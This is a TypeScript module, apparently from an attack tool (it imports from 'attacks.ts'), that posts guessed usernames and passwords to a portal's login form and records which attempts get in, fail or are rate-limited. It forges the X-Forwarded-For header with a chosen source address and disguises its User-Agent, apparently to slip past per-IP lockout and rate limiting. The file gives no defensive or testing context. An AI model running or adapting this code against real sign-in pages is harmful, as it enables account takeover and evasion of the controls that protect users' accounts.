import type { Try } from './attacks.ts';

/** What became of a try. */
export type Outcome = 'entered' | 'wrong' | 'waits' | 'refused' | 'other';

const OUTCOMES: Readonly<Record<number, Outcome>> = {
  303: 'entered',
  422: 'wrong',
  429: 'waits',
  403: 'refused',
};

const TIMEOUT_MS = 10_000;

/** Sends the sign-in form of the portal. */
export async function sendTry(portal: URL, { from, username, password }: Try): Promise<Outcome> {
  const response = await fetch(new URL('/en/login', portal), {
    method: 'POST',
    redirect: 'manual',
    headers: {
      'X-Forwarded-For': from,
      'User-Agent': 'python-requests/2.32.3',
      Origin: portal.origin,
    },
    body: new URLSearchParams({ username, password }),
    signal: AbortSignal.timeout(TIMEOUT_MS),
  });
  await response.arrayBuffer();
  return OUTCOMES[response.status] ?? 'other';
}
